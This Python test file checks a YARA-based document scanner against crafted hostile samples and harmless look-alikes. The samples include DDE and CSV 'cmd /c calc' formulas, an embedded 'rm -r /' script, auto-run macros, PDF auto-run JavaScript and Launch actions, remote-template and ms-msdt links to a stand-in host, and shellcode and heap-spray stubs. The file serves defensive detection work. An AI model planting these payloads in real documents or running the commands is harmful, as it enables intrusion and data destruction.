from __future__ import annotations

import base64
import re
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from frostbyte.errors import ScanFailed
from frostbyte.intake.scan import child, rules
from frostbyte.intake.scan.yara import Engine

from . import making

RELATIONS = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
EQUATION = b"\x1c\0\0\0\x02\0" + bytes(22) + b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a"
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x10\0\0\0" + bytes(40)
DOS = b"MZ" + struct.pack("<HHHHHH", 80, 1, 0, 4, 0, 0xFFFF) + bytes(10) + struct.pack("<H", 0x1E) + bytes(60)
SHORTCUT = struct.pack("<II", 0x4C, 0x00021401) + bytes(4) + b"\xc0\0\0\0\0\0\0\x46" + bytes(60)
URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)


def _docx(**parts: bytes) -> bytes:
    return making.package(word__document_dot_xml=b"<w:document/>", **parts)


HOSTILE = {
    "eicar_test_file": making.EICAR,
    "eicar_test_file in a part": _docx(word__media__image1_dot_png=making.EICAR),
    "eicar_test_file in a package in a package": _docx(word__embeddings__a_dot_xlsx=making.package(x_dot_bin=making.EICAR)),
    "eicar_test_file in a package behind junk": b"junk" * 9 + _docx(word__media__image1_dot_png=making.EICAR),
    "eicar_test_file in a package behind a PDF": making.pdf(b"<< >>") + _docx(word__media__image1_dot_png=making.EICAR),
    "eicar_test_file in a stream of a PDF": making.pdf(b"<< /Type /Catalog >>", making.stream(making.EICAR)),
    "program_windows": making.pdf(making.stream(making.PROGRAM, b"/Type /EmbeddedFile")),
    "program_windows behind a picture": b"\x89PNG\r\n\x1a\n" + bytes(80) + making.PROGRAM,
    "program_windows in an object": _docx(
        word__embeddings__oleObject1_dot_bin=making.compound({"\x01Ole10Native": making.PROGRAM + bytes(5000)})
    ),
    "program_linux": _docx(word__media__image1_dot_png=ELF),
    "program_macos": making.pdf(making.stream(MACHO, b"/Type /EmbeddedFile")),
    "program_by_name": _docx(word__embeddings__invoice_dot_vbs=b"x"),
    "program_in_package": _docx(
        word__embeddings__o_dot_bin=making.compound({"\x01Ole10Native": b"\x02\0a.js\0C:\\a.js\0" + bytes(9)})
    ),
    "script_inside": making.pdf(making.stream(b"#!/bin/sh\nrm -r /\n", b"/Type /EmbeddedFile")),
    "macro_automatic": _docx(word__vbaProject_dot_bin=making.macros(b"Private Sub Document_Open()\r\nEnd Sub\r\n")),
    "macro_reaches_out": _docx(word__vbaProject_dot_bin=making.macros(b'Sub X()\r\nShell ("calc")\r\nEnd Sub\r\n')),
    "dde_word": making.package(
        word__document_dot_xml=b'<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO c:\\\\a.exe "/k"</w:instrText>'
    ),
    "dde_word as a simple field": making.package(
        word__document_dot_xml=b'<w:fldSimple w:instr="DDEAUTO c:\\\\x &quot;y&quot;"/>'
    ),
    "dde_workbook": making.package(xl__externalLinks__e_dot_xml=b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    "dde_text": b"name,amount\n=cmd|'/c calc'!A0,3\n",
    "template_remote": _docx(
        word___rels__settings_dot_xml_dot_rels=RELATIONS % (b"attachedTemplate", b"http://a.example/x.dotm")
    ),
    "template_remote on a share": _docx(
        word___rels__settings_dot_xml_dot_rels=RELATIONS % (b"attachedTemplate", b"\\\\a\\x.dotm")
    ),
    "object_remote": _docx(
        word___rels__document_dot_xml_dot_rels=RELATIONS % (b"oleObject", b"mhtml:http://a.example!x-usc:http://b")
    ),
    "exploit_equation": _docx(word__e__o_dot_bin=making.compound({"Equation Native": EQUATION + b"A" * 60})),
    "exploit_equation in its old form": _docx(
        word__e__o_dot_bin=making.compound({"Equation Native": b"\x03\x01\x01\x03\x0a\x08\x5a\x5a" + b"A" * 60})
    ),
    "exploit_equation of a matrix": _docx(
        word__e__o_dot_bin=making.compound({"Equation Native": EQUATION[:28] + b"\x03\x01\x01\x03\x0a\x05\0\0\0\x50\x50"})
    ),
    "exploit_ole_class": _docx(
        word__e__o_dot_bin=making.compound({"x": b"y"}, bytes.fromhex("4bf0d1bd8b85d111b16a00c0f0283628"))
    ),
    "exploit_rtf": _docx(word__afchunk_dot_rtf=b"{\\rtf1{\\object\\objupdate\\objemb{\\*\\objdata 0105}}}"),
    "pdf_script_automatic": making.pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", SCRIPT),
    "pdf_script_automatic with escaped names": making.pdf(b"<< /Type /Catalog /Open#41ction << /S /J#61vaScript /JS (x) >> >>"),
    "pdf_script_automatic in an object stream": making.pdf(
        making.stream(b"5 0 <</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>", b"/Type /ObjStm /N 1 /First 4")
    ),
    "pdf_script_automatic of a page": making.pdf(b"<< /Type /Page /AA << /O 2 0 R >> >>", SCRIPT),
    "pdf_script_automatic by name": making.pdf(b"<< /Names << /JavaScript << /Names [ (a) 2 0 R ] >> >> >>", SCRIPT),
    "pdf_script_automatic without objects": b"%PDF-1.1\ntrailer << /Root << /OpenAction << /S/JavaScript /JS(x) >> >> >>",
    "pdf_launch": making.pdf(b"<< /OpenAction << /S /Launch /F (letter.pdf) >> >>"),
    "pdf_launch by a click": making.pdf(b"<< /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
    "exploit_pdf_script": making.pdf(
        b"<< /S /JavaScript /JS 2 0 R >>", making.stream(b'var x = unescape("%u4141%u4141%u4141%u4141");')
    ),
    "exploit_pdf_objects": making.pdf(b"<< /FontMatrix [ 1 0 0 1 0 (1\\); alert\\(1\\)) ] >>"),
    "exploit_font_sing": making.pdf(
        making.stream(b"\0\1\0\0\0\1\0\0\0\0\0\0SING\0\0\0\0\0\0\0\x1c\0\0\1\0" + bytes(16) + b"A" * 60, b"/Length1 9")
    ),
    "exploit_jbig2": making.pdf(
        making.stream(b"\0\0\0\1\x40\0\x33\x33\x33\x13\0\0\0\5" + bytes(9), b"/Filter /JBIG2Decode", flate=False)
    ),
    "program_dos": _docx(word__media__image1_dot_bin=DOS),
    "program_java": _docx(word__media__image1_dot_bin=b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)),
    "program_in_text_form": b"Attached below.\n" + base64.b64encode(b"MZ" + bytes(76) + making.DOS_WORDS) + b"\n",
    "program_in_text_form as hex": b"4d5a" + b"0" * 150 + making.DOS_WORDS.hex().encode(),
    "shortcut_windows": _docx(word__media__image1_dot_bin=SHORTCUT),
    "macro_automatic_compiled": _docx(
        word__vbaProject_dot_bin=making.compound({"_VBA_PROJECT": b"\xcc\x61" + "Document_Open".encode("utf-16-le")})
    ),
    "macro_excel4": making.package(
        xl__workbook_dot_xml=b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>'
    ),
    "macro_excel4 on a sheet": making.package(xl__macrosheets__sheet1_dot_xml=b'<c><f>EXEC("calc")</f></c>'),
    "exploit_msdt": _docx(
        word___rels__document_dot_xml_dot_rels=RELATIONS % (b"oleObject", b"ms-msdt:/id PCWDiagnostic IT_BrowseForFile=x")
    ),
    "exploit_equation_package": _docx(
        word__e__o_dot_bin=making.compound({"\x01Ole10Native": bytes(20)}, bytes.fromhex("02ce020000000000c000000000000046"))
    ),
    "exploit_activex_class": _docx(
        word__activeX__activeX1_dot_xml=b'<ax:ocx ax:classid="{BDD1F04B-858B-11D1-B16A-00C0F0283628}"/>'
    ),
    "exploit_moniker": _docx(
        word__e__o_dot_bin=making.compound({"\x01Ole": URL_MONIKER + "http://a.example/x".encode("utf-16-le")})
    ),
    "exploit_shellcode": _docx(word__e__o_dot_bin=making.compound({"Contents": b"\x90" * 16 + b"\xeb\0\x64\xa1\x30\0\0\0"})),
    "pdf_fetch_automatic": making.pdf(b"<< /OpenAction << /S /SubmitForm /F (http://a.example/) >> >>"),
    "pdf_fetch_automatic from a share": making.pdf(b"<< /OpenAction << /S /GoToR /F (\\\\\\\\a\\\\b) /D [0 /Fit] >> >>"),
    "exploit_xfa_tiff": making.pdf(making.stream(b"<field name='ImageField1'><image>SUkqADggAACQkA</image></field>")),
    "exploit_flash": making.pdf(making.stream(b"CWS\x09\0\x10\0\0" + bytes(60), b"/Type /EmbeddedFile")),
    "encrypted_document": b"%PDF-1.4\ntrailer << /Encrypt << /Filter /None >> >>",
    "encrypted_part": _docx(word__embeddings__o_dot_bin=making.compound({"EncryptedPackage": bytes(100)})),
    "archive_not_opened": _docx(word__embeddings__o_dot_bin=b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60)),
}

HARMLESS = {
    "a form that formats its fields": making.pdf(
        b"<< /FT /Tx /AA << /F 2 0 R /K 2 0 R >> >>", b'<< /S /JavaScript /JS (AFNumber_Format\\(2,0,0,0,"",true\\);) >>'
    ),
    "a page to begin at": making.pdf(b"<< /Type /Catalog /OpenAction [ 2 0 R /Fit ] >>", b"<< /Type /Page >>"),
    "a link to the web": making.pdf(b"<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>"),
    "a local template": _docx(
        word___rels__settings_dot_xml_dot_rels=RELATIONS % (b"attachedTemplate", b"file:///C:\\T\\Normal.dotm")
    ),
    "words about macros": b"Document_Open and AutoOpen run by themselves. DDEAUTO too. MZ and PE are letters.\n",
    "macros that wait": _docx(
        word__vbaProject_dot_bin=making.macros(b"Sub Embolden()\r\nSelection.Font.Bold = True\r\nEnd Sub\r\n")
    ),
    "an equation": _docx(word__e__o_dot_bin=making.compound({"Equation Native": EQUATION + b"Times New Roman\0" + bytes(60)})),
    "a formula": b"a,b\n=SUM(A1:A2),-3\n@handle,+49 30 1234\n",
    "the beginning of a DOS program in a text": b"MZ Handel GmbH, 64 Pallets\n",
    "a class of a picture's name": _docx(word__media__image1_dot_bin=b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(40)),
    "a program's words in base64 without the program's": base64.b64encode(b"This program cannot be run twice a day"),
    "a shortcut's length alone": _docx(word__media__image1_dot_bin=SHORTCUT[:4] + bytes(80)),
    "compiled macros that wait": _docx(
        word__vbaProject_dot_bin=making.compound({"_VBA_PROJECT": b"\xcc\x61" + "Embolden".encode("utf-16-le")})
    ),
    "a name that is like a macro's": making.package(
        xl__workbook_dot_xml=b'<definedNames><definedName name="Auto_Parts">S!$A$1</definedName></definedNames>'
    ),
    "words about a diagnostic tool": b"The link ms-msdt: opened PCWDiagnostic; we switched it off.\n",
    "an equation's class without a package": _docx(
        word__e__o_dot_bin=making.compound({"x": bytes(20)}, bytes.fromhex("02ce020000000000c000000000000046"))
    ),
    "a check box": _docx(word__activeX__activeX1_dot_xml=b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'),
    "a link that leads nowhere": _docx(word__e__o_dot_bin=making.compound({"\x01Ole": URL_MONIKER + bytes(40)})),
    "a run of one byte": _docx(word__e__o_dot_bin=making.compound({"Contents": b"\x90" * 400})),
    "a form sent by a click": making.pdf(b"<< /Subtype /Link /A << /S /SubmitForm /F (http://a.example/) >> >>"),
    "another document to go to": making.pdf(b"<< /OpenAction << /S /GoToR /F (part2.pdf) /D [0 /Fit] >> >>"),
    "a form with a picture": making.pdf(making.stream(b"<field name='ImageField1'><image>SUkqAAgAAAAA</image></field>")),
    "a text that begins like Flash": making.pdf(making.stream(b"CWS 2025 report" + bytes(60), b"/Type /EmbeddedFile")),
    "a name that is like encryption's": making.pdf(b"<< /EncryptMetadata true >>"),
    "words about archives": _docx(word__embeddings__a_dot_txt=b"7z, Rar! and other encrypted things"),
    "a broken package": b"PK\x03\x04" + bytes(60),
    "a broken PDF": b"%PDF-1.7\n1 0 obj << /Filter /FlateDecode >> stream\nxxxx",
}


@pytest.fixture(scope="module")
def found() -> Callable[[bytes, Path], tuple[str, ...]]:
    engine = Engine(rules.shipped().source, 20)

    def look(data: bytes, place: Path) -> tuple[str, ...]:
        (place / "file").write_bytes(data)
        with (place / "file").open("rb") as stream:
            return tuple(child.look(engine, stream.fileno()))

    return look


@pytest.mark.parametrize("case", HOSTILE)
def test_what_a_document_never_needs_is_found(case: str, found: Callable[..., tuple[str, ...]], tmp_path: Path) -> None:
    assert case.split()[0] in found(HOSTILE[case], tmp_path)


@pytest.mark.parametrize("case", HARMLESS)
def test_what_documents_hold_is_not(case: str, found: Callable[..., tuple[str, ...]], tmp_path: Path) -> None:
    assert found(HARMLESS[case], tmp_path) == ()


def test_rules_that_do_not_compile_are_an_error_of_the_scanner() -> None:
    with pytest.raises(ScanFailed, match="do not compile") as caught:
        Engine("rule x { condition: nothing_of_this_name }", 5)
    assert not caught.value.about_file


def test_rules_can_include_no_file(tmp_path: Path) -> None:
    (tmp_path / "more.yar").write_text("rule more { condition: true }")
    with pytest.raises(ScanFailed, match="do not compile"):
        Engine(f'include "{tmp_path}/more.yar"', 5)


def test_every_rule_has_a_name_that_may_be_reported() -> None:
    names = Engine(rules.shipped().source, 5).names
    assert len(set(names)) == len(names) > 30
    assert all(re.fullmatch("[a-z][a-z0-9_]+", name) for name in names)


def test_every_rule_has_an_example_that_it_finds() -> None:
    assert {case.split()[0] for case in HOSTILE} == set(Engine(rules.shipped().source, 5).names)
